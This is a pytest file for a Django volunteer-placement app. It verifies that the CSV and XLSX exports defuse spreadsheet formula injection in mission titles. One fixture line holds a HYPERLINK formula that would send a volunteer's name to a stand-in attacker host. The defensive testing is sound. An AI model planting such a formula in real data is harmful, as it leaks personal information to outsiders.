"""A host's mission title written as a formula comes out of the coordinator's placements export
as text, in CSV and in XLSX, next to the volunteers' names (OWASP formula injection)."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reciprocity.accounts.tests.factories import MembershipFactory
from reciprocity.balance.services import ledger_backfill
from reciprocity.balance.tests.helpers import make_placement
from reciprocity.partners.tests.factories import OrganisationFactory
from reciprocity.volunteers.tests.factories import VolunteerFactory

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"x")'


@pytest.fixture
def coordinator(db):
    coordinator = OrganisationFactory(country="FR", is_coordinator=True, is_sending=True)
    volunteer = VolunteerFactory(first_name="Awa", last_name="Ndiaye", nationality="SN",
                                 sending_organisation=coordinator)
    placement = make_placement(origin="SN", host="FR", start=date(2019, 3, 1),
                               end=date(2019, 8, 31), volunteer=volunteer)
    placement.mission.title = EVIL
    placement.mission.save(update_fields=["title"])
    ledger_backfill()
    return MembershipFactory(organisation=coordinator).user


def test_the_csv_export_carries_the_title_as_text(client, coordinator):
    client.force_login(coordinator)

    response = client.get(reverse("balance:placements"), {"year": 2019, "format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == "Awa Ndiaye"
    assert rows[1][6] == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_xlsx_export_carries_the_title_as_text(client, coordinator):
    client.force_login(coordinator)

    response = client.get(reverse("balance:placements"), {"year": 2019, "format": "xlsx"})

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = {header[i]: cell for i, cell in enumerate(sheet[2])}
    assert row["Volunteer"].value == "Awa Ndiaye"
    assert row["Mission"].value == "'" + EVIL and row["Mission"].data_type == "s"
